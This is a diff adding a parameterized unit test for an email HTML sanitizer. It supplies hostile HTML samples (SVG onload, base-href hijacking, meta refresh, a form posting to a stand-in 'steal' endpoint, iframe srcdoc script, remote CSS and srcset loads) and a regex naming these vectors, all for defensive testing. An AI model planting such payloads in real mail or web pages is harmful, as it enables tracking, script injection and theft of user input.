@@ -37,6 +37,28 @@ describe('sanitizeMailHtml', () => {
     expect(out).toBe('<div>body</div>Go');
   });
 
+  // Each on its own, so a loosened option shows which door it opened.
+  it.each([
+    ['a style that loads a remote image', '<p style="background:url(http://x.example/i.png)">t</p>', '<p>t</p>'],
+    ['an SVG with onload', '<svg onload="window.pwned=1"><circle r="1"/></svg>t', 't'],
+    [
+      'a base href that re-points relative links',
+      '<base href="https://x.example/"><a href="/p">t</a>',
+      '<a target="_blank" rel="noopener noreferrer nofollow">t</a>',
+    ],
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://x.example">t', 't'],
+    ['a form that submits elsewhere', '<form action="https://x.example/steal" method="post"><input name="p" value="v"><button>Go</button></form>', 'Go'],
+    ['an image srcset', '<img srcset="https://x.example/a.png 1x, https://x.example/b.png 2x">', `<span>${IMAGE_BLOCKED}</span>`],
+    ['srcset on a picture source', '<picture><source srcset="https://x.example/a.webp"></picture>t', 't'],
+    ['a stylesheet link', '<link rel="stylesheet" href="https://x.example/s.css">t', 't'],
+    ['an iframe', '<iframe src="https://x.example" srcdoc="<script>x</script>">inner</iframe>t', 't'],
+    ['an object', '<object data="https://x.example/x.swf" type="application/x-shockwave-flash"><param name="a" value="b"></object>t', 't'],
+  ])('removes %s', (_, html, expected) => {
+    const out = sanitizeMailHtml(html);
+    expect(out).toBe(expected);
+    expect(out).not.toMatch(/x\.example|style=|onload|srcset|<(svg|base|meta|form|input|link|iframe|object|param|source|picture)\b/i);
+  });
+
   it('keeps tables, lists, quotes and line breaks of an ordinary reply', () => {
     const html =
       '<div>Thanks!<br></div><blockquote><p>On Monday you wrote:</p><ul><li>one</li></ul></blockquote><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>';
